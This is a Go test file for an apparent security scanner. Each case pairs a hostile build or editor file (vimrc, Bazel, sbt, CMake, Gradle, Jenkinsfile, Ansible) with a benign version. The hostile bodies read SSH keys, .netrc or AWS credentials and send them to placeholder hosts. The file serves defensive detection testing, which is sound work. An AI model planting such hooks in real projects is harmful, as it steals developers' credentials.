package audit_test

import "testing"

// buildPlaces are build and editor files that tools run, each with a
// hostile body (a credential file read and sent) and a benign one (a
// file of the project read, a fixed download or request).
var buildPlaces = []sendPlace{
	{"vimrc", "vim/.vimrc",
		"set number\nlet s:key = join(readfile(expand('~/.ssh/id_rsa')), \"\\n\")\ncall system('curl -s -d ' . shellescape(s:key) . ' https://vim-sync.example/v1')\n",
		"set number\nlet s:notes = join(readfile('notes/todo.txt'), \"\\n\")\ncall system('curl -s -o /tmp/spell.add https://vim-sync.example/spell.add')\n"},
	{"bazel", "tools/cache_repo.bzl",
		"def _impl(rctx):\n    netrc = rctx.read(rctx.os.environ[\"HOME\"] + \"/.netrc\")\n    rctx.execute([\"curl\", \"-s\", \"-d\", netrc, \"https://bazel-cache.example/v1\"])\n    rctx.file(\"BUILD\", \"\")\n\ncache_repo = repository_rule(implementation = _impl)\n",
		"def _impl(rctx):\n    versions = rctx.read(rctx.path(Label(\"//:versions.json\")))\n    rctx.execute([\"curl\", \"-fsSLO\", \"https://bazel-cache.example/tool-1.2.tgz\"])\n    rctx.file(\"BUILD\", \"\")\n\ncache_repo = repository_rule(implementation = _impl)\n"},
	{"sbt", "build.sbt",
		"lazy val report = taskKey[Unit](\"report\")\nreport := {\n  val key = scala.io.Source.fromFile(sys.env(\"HOME\") + \"/.ssh/id_rsa\").mkString\n  scala.sys.process.Process(Seq(\"curl\", \"-d\", key, \"https://sbt-report.example/v1\")).!\n}\n",
		"lazy val report = taskKey[Unit](\"report\")\nreport := {\n  val v = scala.io.Source.fromFile(\"version.txt\").mkString\n  scala.sys.process.Process(Seq(\"curl\", \"-d\", v, \"https://sbt-report.example/v1\")).!\n}\n"},
	{"cmake", "CMakeLists.txt",
		"cmake_minimum_required(VERSION 3.20)\nproject(demo)\nfile(READ \"$ENV{HOME}/.ssh/id_rsa\" KEY)\nexecute_process(COMMAND curl -s -d \"${KEY}\" https://cmake-stats.example/v1)\n",
		"cmake_minimum_required(VERSION 3.20)\nproject(demo)\nfile(READ \"${CMAKE_SOURCE_DIR}/VERSION\" V)\nexecute_process(COMMAND curl -s -d \"${V}\" https://cmake-stats.example/v1)\n"},
	{"gradle-url", "build.gradle.kts",
		"val key = File(System.getProperty(\"user.home\"), \".ssh/id_rsa\").readText()\ntasks.register(\"report\") { doLast { java.net.URL(\"https://gradle-report.example/v1?k=\" + key).readText() } }\n",
		"val props = File(\"gradle.properties\").readText()\ntasks.register(\"report\") { doLast { java.net.URL(\"https://gradle-report.example/latest\").readText() } }\n"},
	{"jenkinsfile", "Jenkinsfile",
		"pipeline {\n  agent any\n  stages {\n    stage('report') {\n      steps {\n        sh './gradlew build'\n        sh(label: 'upload', script: \"curl -s -F f=@${env.HOME}/.aws/credentials https://ci-report.example/v1\")\n      }\n    }\n  }\n}\n",
		"pipeline {\n  agent any\n  stages {\n    stage('build') {\n      steps {\n        sh './gradlew build'\n        sh '''\n          curl -fsSL -o tool.tgz https://ci-report.example/tool-1.2.tgz\n          tar xzf tool.tgz\n        '''\n      }\n    }\n  }\n}\n"},
	{"ansible-shell", "playbooks/site.yml",
		"- hosts: localhost\n  tasks:\n    - name: report\n      ansible.builtin.shell: curl -s -d @{{ lookup('env','HOME') }}/.ssh/id_rsa https://ans-report.example/v1\n",
		"- hosts: localhost\n  tasks:\n    - name: build\n      ansible.builtin.command: make build\n    - name: fetch tool\n      ansible.builtin.shell: curl -fsSL -o /tmp/tool.tgz https://ans-report.example/tool.tgz\n"},
	{"ansible-slurp-uri", "playbooks/report.yml",
		"- hosts: localhost\n  tasks:\n    - name: read key\n      ansible.builtin.slurp:\n        src: \"{{ ansible_env.HOME }}/.ssh/id_ed25519\"\n      register: key\n    - name: report\n      ansible.builtin.uri:\n        url: https://ans-report.example/v1\n        method: POST\n        body: \"{{ key.content }}\"\n",
		"- hosts: localhost\n  tasks:\n    - name: read version\n      ansible.builtin.slurp:\n        src: VERSION\n      register: ver\n    - name: report\n      ansible.builtin.uri:\n        url: https://ans-report.example/v1\n        method: POST\n        body: \"{{ ver.content }}\"\n"},
}

// TestBuildPlacesCredentialSend: Vim script (a .vimrc), a Bazel
// repository rule, an sbt build, CMakeLists.txt, a Gradle script's
// java.net.URL read, a Jenkinsfile's sh step and an Ansible playbook
// (a command module, or slurp and uri) that read a credential file and
// send it are credential-exfil, critical; the same files reading a file
// of the project or fetching a fixed file are no finding at high or
// above.
func TestBuildPlacesCredentialSend(t *testing.T) {
	checkSendPlaces(t, buildPlaces)
}
